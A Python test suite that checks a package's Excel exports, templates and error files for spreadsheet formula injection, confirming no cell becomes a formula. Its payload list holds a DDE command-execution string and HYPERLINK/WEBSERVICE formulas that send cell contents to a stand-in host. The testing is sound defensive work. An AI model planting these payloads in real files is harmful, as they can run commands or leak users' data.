"""Whatever people typed, no workbook that goes out holds a formula, and it reads back as it was typed."""

import random
import re
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import IO

import pytest
from python_calamine import load_workbook

from congminh.exchange.excel import error_file as errors
from congminh.exchange.excel.child import read
from congminh.exchange.excel.export import export
from congminh.exchange.excel.form import Codes, Form, Place
from congminh.exchange.excel.template import template
from congminh.exchange.forms.table_book import table_book
from congminh.exchange.kinds import KINDS
from congminh.exchange.words import Told
from congminh.insight.tables.table import Column, Table
from tests.apps.exchange.books import book, saved

STRINGS = 10_000
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\x00", "\n", "'=", '"=', " =", "＝", "＋", "－", "＠", "%0A=", ";=", "|")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1,"bấm vào đây")',
    'WEBSERVICE("http://x.example/"&A1)',
    "SUM(1+9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(A1))",
    "http://x.example/",
    "Nguyễn Thị <b>Ngọc</b> & Lan]]>",
    "_x000D_",
    "{=1+1}",
    "",
)
FORMULA = re.compile(rb"<f[ >/]")
# What a workbook keeps of letters it cannot hold: «_x0000_» for NUL; Excel shows the letter.
SPELT = re.compile(r"_x([0-9A-F]{4})_")


def strings(number: int = STRINGS) -> list[str]:
    chance = random.Random(335)
    return [f"{chance.choice(BEGINNINGS)}{chance.choice(PAYLOADS)}{n}" for n in range(number)]


def parts(content: bytes) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        yield from ((name, archive.read(name)) for name in archive.namelist())


def formulas(content: bytes) -> int:
    """Of cells, of links, of anything that is reckoned when the file is opened."""
    found = list(parts(content))
    linked = [name for name, _held in found if "externalLink" in name]
    leading = [name for name, held in found if name.endswith(".rels") and b"External" in held]
    return sum(len(FORMULA.findall(held)) for _name, held in found) + len(linked) + len(leading)


def texts(content: bytes) -> set[str]:
    """The texts of every cell of every sheet, as Excel shows them."""
    found = load_workbook(BytesIO(content))
    cells = (cell for name in found.sheet_names for row in found.get_sheet_by_name(name).to_python() for cell in row)
    return {plain(cell) for cell in cells if isinstance(cell, str)}


def plain(text: str) -> str:
    return SPELT.sub(lambda code: chr(int(code[1], 16)), text).replace("\r\n", "\n").replace("\r", "\n")


def held(file: IO[bytes]) -> bytes:
    with file:
        return file.read()


def records(form: Form, every: list[str]) -> Iterator[dict[str, str]]:
    keys = [column.key for column in form.columns]
    for at in range(0, len(every), len(keys)):
        yield dict(zip(keys, every[at : at + len(keys)], strict=False))


def test_the_strings_are_hostile() -> None:
    found = strings()
    assert len(set(found)) == STRINGS
    assert sum(text.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")) for text in found) > STRINGS / 3


@pytest.mark.parametrize("kind", KINDS)
def test_no_export_of_a_kind_holds_a_formula(kind: str) -> None:
    every, form = strings(), KINDS[kind].form
    made = held(export(form, records(form, every)))
    assert formulas(made) == 0
    assert {plain(text) for text in every} <= texts(made)


def test_no_table_of_statistics_holds_a_formula() -> None:
    every = strings()
    rows = [tuple(every[at : at + 10]) for at in range(0, STRINGS, 10)]
    columns = [Column(text) for text in every[:10]]
    made = held(table_book(Table("people", every[0], every[1], columns, rows, notes=every[:50])))
    assert formulas(made) == 0
    assert {plain(text) for text in every} <= texts(made)


@pytest.mark.parametrize("kind", KINDS)
def test_the_only_formulas_of_a_template_are_its_own_lists(kind: str) -> None:
    """A list to choose from names its own hidden sheet; no code of a person or a unit is in a formula."""
    every = strings(500)
    codes = Codes("=1+1", (((every[0], every[1]), [(text, text) for text in every]),))
    made = template(KINDS[kind].form, codes)
    own = b"".join(re.findall(rb"<formula1>(.*?)</formula1>", b"".join(content for _name, content in parts(made))))
    assert formulas(made) == 0
    assert re.fullmatch(rb"('[^'!]+'!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?)*", own.replace(b"&apos;", b"'"))
    assert {plain(text) for text in every} <= texts(made)


def test_a_file_of_errors_gives_back_what_was_sent_as_text(tmp_path: Path) -> None:
    every = [text for text in strings() if "\x00" not in text]
    rows = [every[at : at + 5] for at in range(0, len(every), 5)]
    layout = {"code": Place("A", "Mã")}
    with read(saved(book({"Sheet1": [["Mã", "B", "C", "D", "E"], *rows]}), tmp_path)) as sent:
        there = {text for sheet in sent.sheets() for _number, row in sheet.rows for text in row}
        faults = {("Sheet1", number): [Told("=cmd|x", "+1", "A", "@Mã")] for number in range(2, 200)}
        made = errors.error_file(sent, {"Sheet1": layout}, faults)
    assert formulas(made) == 0
    assert {plain(text) for text in there} - texts(made) <= {""}


def test_no_code_of_ours_writes_a_cell_that_could_be_a_formula() -> None:
    package = Path(errors.__file__).parents[2]
    calls = re.compile(r"\.write(?:_formula|_array_formula|_url|_row|_column|_rich_string)?\(")
    # The demonstration writes its catalogue from words of its own.
    paths = [path for path in package.rglob("*.py") if "demo" not in path.parts]
    written = {path: path.read_text(encoding="utf-8") for path in paths}
    books = {path: text for path, text in written.items() if "xlsxwriter" in text}
    assert len(books) >= 4
    lines = [(path.name, line.strip()) for path, text in books.items() for line in text.splitlines()]
    found = [(name, line) for name, line in lines if calls.search(line)]
    assert found == [("error_file.py", "sheet.write(found, layouts[name], is_faulty)")]
    made = [path.name for path, text in written.items() if re.search(r"\bWorkbook\(", text) and path.name != "book.py"]
    assert made == []
